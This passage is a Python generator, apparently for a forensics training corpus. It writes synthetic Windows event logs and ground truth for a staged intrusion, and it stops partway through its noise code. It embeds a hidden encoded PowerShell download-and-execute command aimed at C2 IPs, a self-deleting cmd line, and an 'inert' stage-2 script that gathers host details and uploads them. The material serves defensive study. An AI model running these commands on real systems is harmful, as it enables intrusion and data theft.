#!/usr/bin/python3
"""mkscenario.py - the reference case's event logs, threat report and ground truth.

Usage: mkscenario.py [--variant default-logging] PAYLOAD OUTDIR

Reads the payload file (made by corpus/mkpayload) only to hash it, and writes
into OUTDIR:
  scenario.jsonl      every event of the five logs, one JSON object a line, in
                      the input format of corpus/mkevtx (see corpus/README.md)
  threat-report.md    the case's threat report, with the payload's real hashes
  ground-truth.json   the attack steps, IOC hits and benign look-alikes, each
                      pointing at the log file and record that shows it, and
                      the facts of the image's registry hives and artefacts
                      (member "registry", from mkregistry.py)

--variant default-logging writes the same host as Windows logs it out of the
box (FACTS.md "The default-logging host"): no Sysmon, no process-creation
auditing (Security without 4688/4689), no module logging (no 4103, no
Windows PowerShell 800), no script-block logging (PowerShell Operational
keeps the 4104 that Windows writes on its own, at Warning level, for
suspicious script blocks). Its ground truth points at what the disk still
shows: Prefetch run times, the USN journal, the remaining log records.

The facts (names, PIDs, times) are those of corpus/scenario/FACTS.md; the
noise around them comes from a fixed-seed generator.  Python 3 standard
library only; the output is the same bytes on every run and every Python 3.
Field lists follow OSSEM-DD / Sysmon schemas and Windows' own events
(shared/design/reference.md section 5).
"""

import base64
import hashlib
import json
import os
import sys

# ---------------------------------------------------------------------------
# Facts of FACTS.md
# ---------------------------------------------------------------------------
COMPUTER = "FIN-WS042.corp.quilltech.example"
DOMAIN = "CORP"
JDOE_SID = "S-1-5-21-3623811015-3361044348-30300820-1104"
ADM_SID = "S-1-5-21-3623811015-3361044348-30300820-1107"
MACHINE_IP = "10.20.30.42"
NOISE_START = "2024-03-11T00:00:00Z"
NOISE_END = "2024-03-14T00:00:00Z"

QE_DIR = "C:\\Program Files (x86)\\QuillEdit\\"
EDITOR = QE_DIR + "QuillEdit.exe"
UPDATER = QE_DIR + "QEUpdate.exe"
UPDATER_CMD = '"' + UPDATER + '" /scheduled'
SCHED_IMAGE = "C:\\Windows\\System32\\svchost.exe"
SCHED_CMD = "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"
SCHED_PID = 1296
TEMP = "C:\\Users\\jdoe\\AppData\\Local\\Temp\\"
PAYLOAD = TEMP + "QEUpd\\qeupdate_helper.exe"
PATCH = TEMP + "QEUpd\\QuillEdit_patch_3.2.1.exe"
GUPDATE = "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe"
GUPDATE_CMD = '"' + GUPDATE + '" /ua /installsource scheduler'
SEVENZIP = "C:\\Users\\jdoe\\Downloads\\7z2301-x64.exe"
SEVENZIP_TMP = TEMP + "7zS4C1A2B\\"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
PING = "C:\\Windows\\System32\\PING.EXE"
EXPLORER = "C:\\Windows\\explorer.exe"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
# Defender runs from its platform folder (a real machine has no
# System32\MpCmdRun.exe process; Sigma's mpclient.dll sideloading rule
# flags MpCmdRun anywhere else).
MPCMDRUN = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MpCmdRun.exe"
# Programs that open no network connections of their own: the noise gives
# them none (a Notepad connection is what Sigma's rules look for).
NO_NETWORK_IMAGES = {"C:\\Windows\\System32\\notepad.exe"}

C2_1 = "5.39.218.205"
C2_2 = "176.53.118.131"
URL_1 = "http://5.39.218.205/logo.png"
URL_2 = "http://176.53.118.131/logo.png"
VENDOR_IP = "203.0.113.10"
VENDOR_HOST = "updates.quilledit.example"
GOOGLE_IP = "198.51.100.23"

SELF_DELETE_CMD = ('cmd.exe /c ping 127.0.0.1 -n 3 > nul & del /f /q "' +
                   PAYLOAD + '"')
STAGE1_SCRIPT = ("IEX (New-Object Net.WebClient).DownloadString('" + URL_2 +
                 "')")
STAGE1_B64 = base64.b64encode(STAGE1_SCRIPT.encode("utf-16-le")).decode()
PS_ATTACK_CMD = "powershell.exe -NoP -NonI -W Hidden -Enc " + STAGE1_B64

# Providers and channels; provider GUIDs in lower case, as Windows renders them.
SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon",
          "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}")
SECURITY = ("Security", "Microsoft-Windows-Security-Auditing",
            "{54849625-5478-4994-a5ba-3e3b0328c30d}")
PSOP = ("Microsoft-Windows-PowerShell/Operational",
        "Microsoft-Windows-PowerShell", "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}")
PSCLASSIC = ("Windows PowerShell", "PowerShell", None)
SCM = ("System", "Service Control Manager",
       "{555908d1-a6d7-4695-8e1e-26931d2012f4}")

LOGFILE = {
    SYSMON[0]: "Microsoft-Windows-Sysmon%4Operational.evtx",
    SECURITY[0]: "Security.evtx",
    PSOP[0]: "Microsoft-Windows-PowerShell%4Operational.evtx",
    PSCLASSIC[0]: "Windows PowerShell.evtx",
    SCM[0]: "System.evtx",
}

SYSMON_PID = 2712
SEED = 0x5EED2024031300


# ---------------------------------------------------------------------------
# Deterministic helpers
# ---------------------------------------------------------------------------
class Rng:
    """xorshift64*: the same sequence on every Python version."""

    def __init__(self, seed):
        self.s = (seed * 0x9E3779B97F4A7C15 + 1) & 0xFFFFFFFFFFFFFFFF or 1

    def next(self):
        s = self.s
        s ^= s >> 12
        s ^= (s << 25) & 0xFFFFFFFFFFFFFFFF
        s ^= s >> 27
        self.s = s
        return (s * 0x2545F4914F6CDD1D) & 0xFFFFFFFFFFFFFFFF

    def below(self, n):
        return self.next() % n

    def pick(self, seq):
        return seq[self.below(len(seq))]

    def chance(self, percent):
        return self.below(100) < percent


def ticks(iso):
    """'2024-03-13T14:02:15.6000000Z' -> 100 ns ticks since 1970 (int)."""
    date, rest = iso.rstrip("Z").split("T")
    y, mo, d = (int(x) for x in date.split("-"))
    hms, _, frac = rest.partition(".")
    h, mi, s = (int(x) for x in hms.split(":"))
    frac = (frac + "0000000")[:7]
    yy = y - (mo <= 2)
    era = yy // 400
    yoe = yy - era * 400
    doy = (153 * (mo + (-3 if mo > 2 else 9)) + 2) // 5 + d - 1
    doe = yoe * 365 + yoe // 4 - yoe // 100 + doy
    days = era * 146097 + doe - 719468
    return ((days * 86400 + h * 3600 + mi * 60 + s) * 10000000) + int(frac)


def iso(t):
    """Inverse of ticks(): 7 fractional digits, 'Z'."""
    secs, frac = divmod(t, 10000000)
    days, sod = divmod(secs, 86400)
    z = days + 719468
    era = z // 146097
    doe = z - era * 146097
    yoe = (doe - doe // 1460 + doe // 36524 - doe // 146096) // 365
    y = yoe + era * 400
    doy = doe - (365 * yoe + yoe // 4 - yoe // 100)
    mp = (5 * doy + 2) // 153
    d = doy - (153 * mp + 2) // 5 + 1
    m = mp + 3 if mp < 10 else mp - 9
    y += m <= 2
    return "%04d-%02d-%02dT%02d:%02d:%02d.%07dZ" % (
        y, m, d, sod // 3600, sod // 60 % 60, sod % 60, frac)


def sysmon_time(t):
    """Sysmon's UtcTime: 'YYYY-MM-DD hh:mm:ss.mmm'."""
    s = iso(t)
    return s[:10] + " " + s[11:23]


SEC = 10000000
MS = 10000


def fake_hashes(name):
    """Hashes string for a program we do not ship: hashes of its name."""
    b = ("casetrail-fake-image:" + name).encode()
    return "SHA1=%s,MD5=%s,SHA256=%s,IMPHASH=%s" % (
        hashlib.sha1(b).hexdigest().upper(), hashlib.md5(b).hexdigest().upper(),
        hashlib.sha256(b).hexdigest().upper(),
        hashlib.md5(b + b"imp").hexdigest().upper())


def guid_from(*parts):
    h = hashlib.sha256("|".join(str(p) for p in parts).encode()).hexdigest()
    return "{%s-%s-%s-%s-%s}" % (h[0:8], h[8:12], h[12:16], h[16:20], h[20:32])


# ---------------------------------------------------------------------------
# Event collection
# ---------------------------------------------------------------------------
class Log:
    def __init__(self):
        self.events = []
        self.seq = 0

    def add(self, chan, eid, t, data, version=0, level=4, task=0, opcode=0,
            keywords=0, pid=0, tid=0, user=None, qualifiers=None, tag=None):
        channel, provider, guid = chan
        ev = {"channel": channel, "provider": provider}
        if guid:
            ev["guid"] = guid
        ev["eid"] = eid
        if qualifiers is not None:
            ev["qualifiers"] = qualifiers
        ev.update({"version": version, "level": level, "task": task,
                   "opcode": opcode, "keywords": "0x%016x" % keywords,
                   "time": iso(t), "pid": pid, "tid": tid,
                   "computer": COMPUTER})
        if user:
            ev["user"] = user
        ev["data"] = data
        self.seq += 1
        self.events.append((t, self.seq, ev, tag))


class Proc:
    """A process as the logs see it."""

    def __init__(self, image, pid, cmd, user, logon_id, logon_guid, sid,
                 parent=None, integrity="Medium", cwd="C:\\Windows\\system32\\",
                 session=1, meta=None, hashes=None):
        self.image = image
        self.pid = pid
        self.cmd = cmd
        self.user = user                  # 'CORP\\jdoe'
        self.logon_id = logon_id          # int
        self.logon_guid = logon_guid
        self.sid = sid
        self.parent = parent
        self.integrity = integrity
        self.cwd = cwd
        self.session = session
        self.meta = meta or ("-", "-", "-", "-", "-")
        self.hashes = hashes or fake_hashes(image)
        self.guid = None
        self.start = None


SYSTEM_USER = "NT AUTHORITY\\SYSTEM"

PROGRAM_META = {
    # image: (FileVersion, Description, Product, Company, OriginalFileName)
    UPDATER: ("3.2.0.118", "QuillEdit Updater", "QuillEdit",
              "QuillTech Software Ltd.", "QEUpdate.exe"),
    PATCH: ("3.2.1.0", "QuillEdit 3.2.1 Patch", "QuillEdit",
            "QuillTech Software Ltd.", "QEPatch.exe"),
    POWERSHELL: ("10.0.19041.3996 (WinBuild.160101.0800)",
                 "Windows PowerShell", "Microsoft\u00ae Windows\u00ae Operating System",
                 "Microsoft Corporation", "PowerShell.EXE"),
    CMD: ("10.0.19041.3636 (WinBuild.160101.0800)",
          "Windows Command Processor",
          "Microsoft\u00ae Windows\u00ae Operating System",
          "Microsoft Corporation", "Cmd.Exe"),
    PING: ("10.0.19041.1 (WinBuild.160101.0800)", "TCP/IP Ping Command",
           "Microsoft\u00ae Windows\u00ae Operating System",
           "Microsoft Corporation", "ping.exe"),
    GUPDATE: ("1.3.36.352", "Google Installer", "Google Update", "Google LLC",
              "GoogleUpdate.exe"),
    SEVENZIP: ("23.01", "7-Zip Installer", "7-Zip", "Igor Pavlov",
               "7zipInstall.exe"),
    MPCMDRUN: ("4.18.24020.7 (WinBuild.160101.0800)",
               "Microsoft Malware Protection Command Line Utility",
               "Microsoft\u00ae Windows\u00ae Operating System",
               "Microsoft Corporation", "MpCmdRun.exe"),
}


def meta_for(image):
    if image in PROGRAM_META:
        return PROGRAM_META[image]
    base = image.rsplit("\\", 1)[-1]
    if image.lower().startswith("c:\\windows\\"):
        return ("10.0.19041.3996 (WinBuild.160101.0800)", base.split(".")[0],
                "Microsoft\u00ae Windows\u00ae Operating System",
                "Microsoft Corporation", base)
    return ("-", "-", "-", "-", "-")


class Case:
    def __init__(self, payload_hashes):
        self.log = Log()
        self.rng = Rng(SEED)
        self.payload_hashes = payload_hashes
        self.proc_count = 0
        self.used_pids = {5120, 6644, 7012, 7236, 7244, 4312, 4420}
        self.truth = {"steps": [], "benign": []}
        self.tags = {}

    # -- identifiers -------------------------------------------------------
    def noise_pid(self):
        while True:
            pid = 4 * (300 + self.rng.below(4700))
            if pid not in self.used_pids:
                return pid

    def tid(self):
        return 4 * (100 + self.rng.below(3000))

    def proc_guid(self, t):
        self.proc_count += 1
        secs = t // SEC
        return "{9a4f3c2e-%04x-%04x-%04x-%012x}" % (
            secs & 0xFFFF, (secs >> 16) & 0xFFFF, 0x1000 + self.proc_count % 0xEFFF,
            0x1700 + self.proc_count)

    # -- Sysmon --------------------------------------------------------------
    def sysmon(self, eid, version, t, data, tag=None):
        self.log.add(SYSMON, eid, t, data, version=version, level=4, task=eid,
                     keywords=0x8000000000000000, pid=SYSMON_PID, tid=self.tid(),
                     user="S-1-5-18", tag=tag)

    def start(self, p, t, tag=None, security=True):
        """Sysmon 1 and Security 4688 for process p starting at t."""
        p.start = t
        p.guid = self.proc_guid(t)
        par = p.parent
        fv, desc, prod, comp, orig = p.meta
        self.sysmon(1, 5, t, [
            ["RuleName", "-"], ["UtcTime", sysmon_time(t)],
            ["ProcessGuid", p.guid, "guid"], ["ProcessId", p.pid, "uint32"],
            ["Image", p.image], ["FileVersion", fv], ["Description", desc],
            ["Product", prod], ["Company", comp], ["OriginalFileName", orig],
            ["CommandLine", p.cmd], ["CurrentDirectory", p.cwd],
            ["User", p.user], ["LogonGuid", p.logon_guid, "guid"],
            ["LogonId", "0x%x" % p.logon_id, "hex64"],
            ["TerminalSessionId", p.session, "uint32"],
            ["IntegrityLevel", p.integrity], ["Hashes", p.hashes],
            ["ParentProcessGuid", par.guid, "guid"],
            ["ParentProcessId", par.pid, "uint32"],
            ["ParentImage", par.image], ["ParentCommandLine", par.cmd],
            ["ParentUser", par.user]], tag=tag and tag + ":sysmon1")
        if not security:
            return
        elevated = p.integrity in ("High", "System")
        self.log.add(SECURITY, 4688, t, [
            ["SubjectUserSid", par.sid, "sid"],
            ["SubjectUserName", par.user.split("\\")[1] if par.sid != "S-1-5-18"
             else "FIN-WS042$"],
            ["SubjectDomainName", DOMAIN],
            ["SubjectLogonId", "0x%x" % par.logon_id, "hex64"],
            ["NewProcessId", "0x%x" % p.pid, "hex64"],
            ["NewProcessName", p.image],
            ["TokenElevationType", "%%1936" if elevated else "%%1938"],
            ["ProcessId", "0x%x" % par.pid, "hex64"],
            ["CommandLine", p.cmd],
            ["TargetUserSid", p.sid if par.sid != p.sid else "S-1-0-0", "sid"],
            ["TargetUserName", p.user.split("\\")[1] if par.sid != p.sid else "-"],
            ["TargetDomainName", DOMAIN if par.sid != p.sid else "-"],
            ["TargetLogonId", "0x%x" % (p.logon_id if par.sid != p.sid else 0),
             "hex64"],
            ["ParentProcessName", par.image],
            ["MandatoryLabel", {"Low": "S-1-16-4096", "Medium": "S-1-16-8192",
                                "High": "S-1-16-12288",
                                "System": "S-1-16-16384"}[p.integrity], "sid"]],
            version=2, level=0, task=13312, keywords=0x8020000000000000, pid=4,
            tid=self.tid(), tag=tag and tag + ":4688")

    def exit(self, p, t, tag=None, security=True):
        self.sysmon(5, 3, t, [
            ["RuleName", "-"], ["UtcTime", sysmon_time(t)],
            ["ProcessGuid", p.guid, "guid"], ["ProcessId", p.pid, "uint32"],
            ["Image", p.image], ["User", p.user]], tag=tag and tag + ":sysmon5")
        if security:
            self.log.add(SECURITY, 4689, t, [
                ["SubjectUserSid", p.sid, "sid"],
                ["SubjectUserName", p.user.split("\\")[1] if p.sid != "S-1-5-18"
                 else "FIN-WS042$"],
                ["SubjectDomainName", DOMAIN],
                ["SubjectLogonId", "0x%x" % p.logon_id, "hex64"],
                ["Status", "0x0", "hex32"],
                ["ProcessId", "0x%x" % p.pid, "hex64"],
                ["ProcessName", p.image]],
                version=0, level=0, task=13313, keywords=0x8020000000000000,
                pid=4, tid=self.tid(), tag=tag and tag + ":4689")

    def connect(self, p, t, dst_ip, dst_port, src_port, dst_host="-",
                tag=None):
        port_names = {80: "http", 443: "https", 53: "domain"}
        self.sysmon(3, 5, t, [
            ["RuleName", "-"], ["UtcTime", sysmon_time(t)],
            ["ProcessGuid", p.guid, "guid"], ["ProcessId", p.pid, "uint32"],
            ["Image", p.image], ["User", p.user], ["Protocol", "tcp"],
            ["Initiated", True], ["SourceIsIpv6", False],
            ["SourceIp", MACHINE_IP], ["SourceHostname", COMPUTER],
            ["SourcePort", src_port, "uint16"], ["SourcePortName", "-"],
            ["DestinationIsIpv6", False], ["DestinationIp", dst_ip],
            ["DestinationHostname", dst_host],
            ["DestinationPort", dst_port, "uint16"],
            ["DestinationPortName", port_names.get(dst_port, "-")]],
            tag=tag and tag + ":sysmon3")

    def dns(self, p, t, name, results, tag=None):
        self.sysmon(22, 5, t, [
            ["RuleName", "-"], ["UtcTime", sysmon_time(t)],
            ["ProcessGuid", p.guid, "guid"], ["ProcessId", p.pid, "uint32"],
            ["QueryName", name], ["QueryStatus", "0"],
            ["QueryResults", results], ["Image", p.image], ["User", p.user]],
            tag=tag and tag + ":sysmon22")

    def file_create(self, p, t, path, tag=None):
        self.sysmon(11, 2, t, [
            ["RuleName", "-"], ["UtcTime", sysmon_time(t)],
            ["ProcessGuid", p.guid, "guid"], ["ProcessId", p.pid, "uint32"],
            ["Image", p.image], ["TargetFilename", path],
            ["CreationUtcTime", sysmon_time(t)], ["User", p.user]],
            tag=tag and tag + ":sysmon11")

    def stream_hash(self, p, t, path, contents, created):
        self.sysmon(15, 2, t, [
            ["RuleName", "-"], ["UtcTime", sysmon_time(t)],
            ["ProcessGuid", p.guid, "guid"], ["ProcessId", p.pid, "uint32"],
            ["Image", p.image], ["TargetFilename", path],
            ["CreationUtcTime", sysmon_time(created)],
            ["Hash", fake_hashes(path + ":Zone.Identifier")],
            ["Contents", contents], ["User", p.user]])

    def file_delete(self, p, t, path, hashes, tag=None):
        self.sysmon(23, 5, t, [
            ["RuleName", "-"], ["UtcTime", sysmon_time(t)],
            ["ProcessGuid", p.guid, "guid"], ["ProcessId", p.pid, "uint32"],
            ["User", p.user], ["Image", p.image], ["TargetFilename", path],
            ["Hashes", hashes], ["IsExecutable", True], ["Archived", "true"]],
            tag=tag and tag + ":sysmon23")

    # -- PowerShell ----------------------------------------------------------
    def ps_session(self, p, t0, commands, scriptblocks, user_sid, user_name,
                   end, tag=None):
        """A PowerShell host's life in both PowerShell logs.

        commands: list of (time, command name, payload text, pipeline text)
        scriptblocks: list of (time, text, path, level, tag)
        """
        host_id = guid_from("hostid", p.pid, t0)[1:-1]
        runspace = guid_from("runspace", p.pid, t0)[1:-1]
        version = "5.1.19041.4046"
        seq = [0]

        def block(first, extra, user=None):
            seq[0] += 1
            lines = first + ["",
                             "\tSequenceNumber=%d" % seq[0], ""] + (
                ["\tUserId=" + user] if user else []) + [
                             "\tHostName=ConsoleHost",
                             "\tHostVersion=" + version,
                             "\tHostId=" + host_id,
                             "\tHostApplication=" + p.cmd,
                             "\tEngineVersion=" + version,
                             "\tRunspaceId=" + runspace] + extra
            return "\r\n".join(lines)

        ps_tid = self.tid()
        self.log.add(PSOP, 40961, t0 + 310 * MS, [], version=0, level=4,
                     task=4, opcode=1, pid=p.pid, tid=ps_tid, user=user_sid)
        self.log.add(PSOP, 53504, t0 + 520 * MS, [
            ["param1", str(p.pid)], ["param2", "DefaultAppDomain"]],
            version=1, level=4, task=111, opcode=0, pid=p.pid, tid=self.tid(),
            user=user_sid)
        t = t0 + 870 * MS
        for i, prov in enumerate(("Registry", "Alias", "Environment",
                                  "FileSystem", "Function", "Variable")):
            self.log.add(PSCLASSIC, 600, t + i * 3 * MS, [
                [None, prov], [None, "Started"],
                [None, block(["\tProviderName=" + prov,
                              "\tNewProviderState=Started"],
                             ["\tPipelineId=", "\tCommandName=",
                              "\tCommandType=", "\tScriptName=",
                              "\tCommandPath=", "\tCommandLine="])]],
                qualifiers=0, task=6, keywords=0x80000000000000)
        t_400 = t + 40 * MS
        self.log.add(PSCLASSIC, 400, t_400, [
            [None, "Available"], [None, "None"],
            [None, block(["\tNewEngineState=Available",
                          "\tPreviousEngineState=None"],
                         ["\tPipelineId=", "\tCommandName=",
                          "\tCommandType=", "\tScriptName=",
                          "\tCommandPath=", "\tCommandLine="])]],
            qualifiers=0, task=4, keywords=0x80000000000000,
            tag=tag and tag + ":400")
        self.log.add(PSOP, 40962, t_400 + 15 * MS, [], version=0, level=4,
                     task=4, opcode=2, pid=p.pid, tid=ps_tid, user=user_sid)
        for (st, text, path, level, stag) in scriptblocks:
            sb_id = guid_from("sb", p.pid, st, text[:40])[1:-1]
            parts = [text[i:i + 15000] for i in range(0, len(text), 15000)]
            for n, part in enumerate(parts, 1):
                self.log.add(PSOP, 4104, st + (n - 1) * 2 * MS, [
                    ["MessageNumber", str(n), "int32"],
                    ["MessageTotal", str(len(parts)), "int32"],
                    ["ScriptBlockText", part], ["ScriptBlockId", sb_id],
                    ["Path", path]],
                    version=1, level=level, task=2, opcode=15, pid=p.pid,
                    tid=ps_tid, user=user_sid,
                    tag=stag and "%s:4104:%d" % (stag, n))
        for pipe, (ct, cname, payload, pipeline) in enumerate(commands, 1):
            ctx = "\r\n".join([
                "        Severity = Informational",
                "        Host Name = ConsoleHost",
                "        Host Version = " + version,
                "        Host ID = " + host_id,
                "        Host Application = " + p.cmd,
                "        Engine Version = " + version,
                "        Runspace ID = " + runspace,
                "        Pipeline ID = %d" % pipe,
                "        Command Name = " + cname,
                "        Command Type = Cmdlet",
                "        Script Name = ",
                "        Command Path = ",
                "        Sequence Number = %d" % (14 + 2 * pipe),
                "        User = " + user_name,
                "        Connected User = ",
                "        Shell ID = Microsoft.PowerShell", ""])
            self.log.add(PSOP, 4103, ct, [
                ["ContextInfo", ctx], ["UserData", ""], ["Payload", payload]],
                version=1, level=4, task=106, opcode=20, pid=p.pid,
                tid=ps_tid, user=user_sid, tag=tag and "%s:4103:%d" % (tag, pipe))
            self.log.add(PSCLASSIC, 800, ct + 4 * MS, [
                [None, pipeline],
                [None, block(["\tDetailSequence=1", "\tDetailTotal=1"],
                             ["\tPipelineId=%d" % pipe, "\tScriptName=",
                              "\tCommandLine=" + pipeline], user=user_name)],
                [None, payload]],
                qualifiers=0, task=8, keywords=0x80000000000000,
                tag=tag and "%s:800:%d" % (tag, pipe))
        self.log.add(PSCLASSIC, 403, end, [
            [None, "Stopped"], [None, "Available"],
            [None, block(["\tNewEngineState=Stopped",
                          "\tPreviousEngineState=Available"],
                         ["\tPipelineId=", "\tCommandName=",
                          "\tCommandType=", "\tScriptName=",
                          "\tCommandPath=", "\tCommandLine="])]],
            qualifiers=0, task=4, keywords=0x80000000000000,
            tag=tag and tag + ":403")

    # -- System --------------------------------------------------------------
    def scm(self, eid, t, data, user=None):
        self.log.add(SCM, eid, t, data, qualifiers=16384, level=4,
                     keywords=0x8080000000000000, pid=684, tid=self.tid(),
                     user=user)

    def logon(self, t, sid, name, logon_id, logon_guid, ltype, ip="-",
              proc=("0x2ac", "C:\\Windows\\System32\\services.exe"),
              lproc="Advapi  ", pkg="Negotiate", elevated=False):
        self.log.add(SECURITY, 4624, t, [
            ["SubjectUserSid", "S-1-5-18", "sid"],
            ["SubjectUserName", "FIN-WS042$"], ["SubjectDomainName", DOMAIN],
            ["SubjectLogonId", "0x3e7", "hex64"],
            ["TargetUserSid", sid, "sid"], ["TargetUserName", name],
            ["TargetDomainName", DOMAIN if sid != "S-1-5-18" else "NT AUTHORITY"],
            ["TargetLogonId", "0x%x" % logon_id, "hex64"],
            ["LogonType", ltype, "uint32"], ["LogonProcessName", lproc],
            ["AuthenticationPackageName", pkg],
            ["WorkstationName", "FIN-WS042" if ltype in (2, 7, 10) else "-"],
            ["LogonGuid", logon_guid, "guid"],
            ["TransmittedServices", "-"], ["LmPackageName", "-"],
            ["KeyLength", 0, "uint32"], ["ProcessId", proc[0], "hex64"],
            ["ProcessName", proc[1]], ["IpAddress", ip],
            ["IpPort", "0" if ip != "-" else "-"],
            ["ImpersonationLevel", "%%1833"], ["RestrictedAdminMode", "-"],
            ["TargetOutboundUserName", "-"], ["TargetOutboundDomainName", "-"],
            ["VirtualAccount", "%%1843"],
            ["TargetLinkedLogonId", "0x0", "hex64"],
            ["ElevatedToken", "%%1842" if elevated else "%%1843"]],
            version=2, level=0, task=12544, keywords=0x8020000000000000,
            pid=748, tid=self.tid())

    def logoff(self, t, sid, name, logon_id, ltype):
        self.log.add(SECURITY, 4634, t, [
            ["TargetUserSid", sid, "sid"], ["TargetUserName", name],
            ["TargetDomainName", DOMAIN],
            ["TargetLogonId", "0x%x" % logon_id, "hex64"],
            ["LogonType", ltype, "uint32"]],
            version=0, level=0, task=12545, keywords=0x8020000000000000,
            pid=748, tid=self.tid())


# ---------------------------------------------------------------------------
# The stage-2 script: inert text that looks like an attacker's PowerShell
# ---------------------------------------------------------------------------
def stage2_script():
    rng = Rng(SEED ^ 0x2)
    out = [
        "# casetrail synthetic stage 2 - inert test text, never meant to run",
        "$ErrorActionPreference = 'SilentlyContinue'",
        "$cfg = @{",
        "    Servers  = @('%s', '%s')" % (URL_1, URL_2),
        "    Interval = 300",
        "    Jitter   = 0.2",
        "    Id       = '%s'" % guid_from("implant")[1:-1],
        "}",
        "function Get-HostFacts {",
        "    $o = [ordered]@{}",
        "    $o.Host = $env:COMPUTERNAME",
        "    $o.User = \"$env:USERDOMAIN\\$env:USERNAME\"",
        "    $o.OS   = (Get-CimInstance Win32_OperatingSystem).Caption",
        "    $o.Proc = (Get-Process | Select-Object -ExpandProperty Name) -join ','",
        "    return ($o | ConvertTo-Json -Compress)",
        "}",
        "function Send-Beacon([string]$Body) {",
        "    foreach ($s in $cfg.Servers) {",
        "        try {",
        "            $wc = New-Object Net.WebClient",
        "            $wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')",
        "            return $wc.UploadString($s, $Body)",
        "        } catch { continue }",
        "    }",
        "}",
        "$blob = [byte[]](",
    ]
    # A long byte array, as real stagers carry: pseudo-random, meaningless.
    row = []
    for i in range(7600):
        row.append("0x%02x" % (rng.next() >> 56))
        if len(row) == 16:
            out.append("    " + ",".join(row) + ",")
            row = []
    out.append("    " + ",".join(row + ["0x00"]))
    out += [
        ")",
        "$key = [byte[]](%s)" % ",".join(
            "0x%02x" % (rng.next() >> 56) for _ in range(16)),
        "for ($i = 0; $i -lt $blob.Length; $i++) { $blob[$i] = $blob[$i] -bxor $key[$i % 16] }",
        "$facts = Get-HostFacts",
        "$reply = Send-Beacon ([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($facts)))",
        "# end of casetrail synthetic stage 2",
    ]
    return "\r\n".join(out)


# ---------------------------------------------------------------------------
# The story
# ---------------------------------------------------------------------------
def build(case):
    c = case
    rng = c.rng
    T = ticks

    # Long-lived processes.
    system = Proc("System", 4, "", SYSTEM_USER, 0x3e7,
                  "{00000000-0000-0000-0000-000000000000}", "S-1-5-18")
    system.guid = "{9a4f3c2e-0000-65ee-eb03-000000001700}"
    services = Proc("C:\\Windows\\System32\\services.exe", 684,
                    "C:\\Windows\\system32\\services.exe", SYSTEM_USER, 0x3e7,
                    "{9a4f3c2e-0000-0000-e703-000000000000}", "S-1-5-18",
                    parent=system, integrity="System", session=0)
    services.guid = "{9a4f3c2e-0001-65ee-0b00-000000001700}"
    sched = Proc(SCHED_IMAGE, SCHED_PID, SCHED_CMD, SYSTEM_USER, 0x3e7,
                 services.logon_guid, "S-1-5-18", parent=services,
                 integrity="System", session=0)
    sched.guid = "{9a4f3c2e-0001-65ee-1c00-000000001700}"
    jdoe_logons = []

    # --- jdoe's working days, logons and desktop noise -------------------
    day_starts = [T("2024-03-11T07:52:13.4407000Z"),
                  T("2024-03-12T08:05:41.1021000Z"),
                  T("2024-03-13T07:58:02.7713000Z")]
    day_ends = [T("2024-03-11T17:31:09.2210000Z"),
                T("2024-03-12T17:12:55.9061000Z"),
                T("2024-03-13T17:44:30.0048000Z")]
    explorers = []
    for d, (ds, de) in enumerate(zip(day_starts, day_ends)):
        lid = 0x3a4c1f + d * 0x10a31
        lguid = guid_from("jdoe-logon", d)
        c.logon(ds, JDOE_SID, "jdoe", lid, lguid, 2,
                ip="127.0.0.1", proc=("0x3cc", "C:\\Windows\\System32\\svchost.exe"),
                lproc="User32 ", pkg="Negotiate")
        jdoe_logons.append((lid, lguid))
        userinit = Proc("C:\\Windows\\System32\\userinit.exe", c.noise_pid(),
                        "C:\\Windows\\system32\\userinit.exe", DOMAIN + "\\jdoe",
                        lid, lguid, JDOE_SID, parent=services)
        userinit.meta = meta_for(userinit.image)
        c.start(userinit, ds + 2 * SEC)
        ex = Proc(EXPLORER, c.noise_pid(), "C:\\Windows\\Explorer.EXE",
                  DOMAIN + "\\jdoe", lid, lguid, JDOE_SID, parent=userinit,
                  cwd="C:\\Windows\\system32\\")
        ex.meta = meta_for(EXPLORER)
        c.start(ex, ds + 3 * SEC)
        c.exit(userinit, ds + 9 * SEC)
        explorers.append(ex)
        c.logoff(de, JDOE_SID, "jdoe", lid, 2)
        # Screen unlocks: a short type-7 logon session each, logged off
        # seconds later (as Windows does on unlock).
        for k in range(4):
            ut = ds + (5400 + k * 7200 + c.rng.below(3000)) * SEC + c.rng.below(SEC)
            ulid = lid + 0x100 + k * 0x37
            c.logon(ut, JDOE_SID, "jdoe", ulid, guid_from("jdoe-unlock", d, k), 7,
                    ip="127.0.0.1", proc=("0x3cc", "C:\\Windows\\System32\\svchost.exe"),
                    lproc="User32 ", pkg="Negotiate")
            c.logoff(ut + (2 + c.rng.below(5)) * SEC, JDOE_SID, "jdoe", ulid, 7)

    def jdoe_session(t):
        for d, (ds, de) in enumerate(zip(day_starts, day_ends)):
            if ds + 20 * SEC <= t < de - 60 * SEC:
                return d
        return None

    # --- Generic process noise ---------------------------------------------
    t_start, t_end = T(NOISE_START), T(NOISE_END)
    sys_children = [
        ("C:\\Windows\\System32\\svchost.exe",
         "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS"),
        ("C:\\Windows\\System32\\svchost.exe",
         "C:\\Windows\\System32\\svchost.exe -k wsappx -p -s ClipSVC"),
        ("C:\\Windows\\System32\\svchost.exe",
         "C:\\Windows\\system32\\svchost.exe -k LocalSystemNetworkRestricted -p -s wuauserv"),
        ("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
         "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
        ("C:\\Windows\\System32\\SearchProtocolHost.exe",
